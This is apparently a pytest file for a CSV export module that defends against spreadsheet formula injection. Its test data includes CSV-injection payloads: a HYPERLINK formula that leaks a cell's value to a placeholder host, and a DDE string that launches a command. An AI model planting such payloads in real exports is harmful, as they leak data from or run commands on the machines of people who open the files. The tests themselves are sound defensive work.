"""The one CSV writer: no cell a spreadsheet would run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from outcomes.csvfiles import LINE_END, csv_fields, csv_stream, csv_text, safe_cell


@pytest.mark.parametrize("hostile", [
    '=HYPERLINK("http://x?"&C2)',
    "=1+1",
    "+1+1",
    "-2+3@x",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
    "--1",
    "-1e",
    "-.",
    "-0x1F",
    "-1_000",
    "-١٢",  # Arabic-Indic digits: not the ASCII number a spreadsheet parses
    "-inf",
    "-2,5",
])
def test_text_starting_with_a_formula_character_gets_a_leading_quote(hostile):
    assert safe_cell(hostile) == "'" + hostile


@pytest.mark.parametrize("number", ["-2.5", "-0.109", "1e-5", "-1E+05", "+3", "-7", "-.5",
                                    "-5.", "0", "42"])
def test_a_plain_number_stays_a_number(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize(("value", "text"), [
    (-2.5, "-2.5"), (-0.109, "-0.109"), (1e-5, "1e-05"), (-7, "-7"), (0, "0"), (True, "True"),
])
def test_numbers_are_written_as_python_writes_them(value, text):
    assert safe_cell(value) == text


@pytest.mark.parametrize("value", ["", "BMC", "O'Brien", "a=b", "x-1", " =1", "DEMO-0001",
                                   "2026-01-15", "anne@example.org"])
def test_ordinary_text_is_left_alone(value):
    assert safe_cell(value) == value


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""


def test_a_non_text_value_is_made_safe_by_its_text():
    class Code:
        def __str__(self):
            return "=cmd|' /C calc'!A0"

    assert safe_cell(Code()) == "'=cmd|' /C calc'!A0"


def test_the_file_makes_header_and_every_cell_safe_and_still_round_trips():
    text = csv_text(["patient", "=x"], [
        {"patient": '=HYPERLINK("http://x?"&C2)', "=x": -0.109},
        {"patient": "P,1\n2", "=x": None},
    ])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["patient", "'=x"], ["'=HYPERLINK(\"http://x?\"&C2)", "-0.109"],
                    ["P,1\n2", ""]]


def test_a_column_the_file_does_not_have_is_refused_unless_ignored():
    with pytest.raises(ValueError, match="other"):
        csv_text(["a"], [{"a": 1, "other": 2}])
    assert csv_text(["a"], [{"a": 1, "other": 2}], ignore_extra=True) == "a\r\n1\r\n"


def test_a_carriage_return_inside_a_cell_is_quoted_so_it_cannot_start_a_row():
    text = csv_text(["a", "b"], [{"a": "x\ry", "b": "z\nw"}])
    assert text == 'a,b\r\n"x\ry","z\nw"\r\n'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a", "b"], ["x\ry", "z\nw"]]


def test_no_other_module_writes_csv_by_itself():
    # Every file must go through csv_text, or a new download would skip the neutralising.
    root = Path(__file__).resolve().parents[2]
    writer = re.compile(r"csv\.(writer|DictWriter)\b")
    offenders = [str(path.relative_to(root))
                 for package in ("outcomes", "patients") for path in (root / package).rglob("*.py")
                 if path.name != "csvfiles.py" and writer.search(path.read_text())]
    assert offenders == []


HOSTILE_ROWS = [
    {"a": '=HYPERLINK("http://x?"&C2)', "b": -0.109, "c": None},
    {"a": 'say "hi", then\r\nleave', "b": "@x", "c": 7},
    {"a": "", "b": "", "c": ""},
]


def python_writer(columns, rows) -> str:
    """What Python's own writer makes of the cells once made safe (the oracle)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(c) for c in columns])
    for row in rows:
        writer.writerow([safe_cell(row.get(c)) for c in columns])
    return out.getvalue()


def test_the_stream_writes_the_same_file_as_pythons_writer_in_pieces():
    pieces = list(csv_stream(["a", "b", "c"], HOSTILE_ROWS, lines_per_chunk=2))
    assert len(pieces) == 3  # the header, two lines, one line
    assert "".join(pieces) == python_writer(["a", "b", "c"], HOSTILE_ROWS)
    assert csv_text(["a", "b", "c"], HOSTILE_ROWS) == "".join(pieces)


def test_a_line_of_one_empty_cell_is_not_a_blank_line():
    assert "".join(csv_stream(["a"], [{"a": None}])) == python_writer(["a"], [{"a": None}])


def test_fields_put_together_from_pieces_make_the_same_line():
    row = HOSTILE_ROWS[1]
    line = csv_fields([row["a"]]) + "," + csv_fields([row["b"], row["c"]]) + LINE_END
    assert line == python_writer(["a", "b", "c"], [row]).split("\r\n", 1)[1]
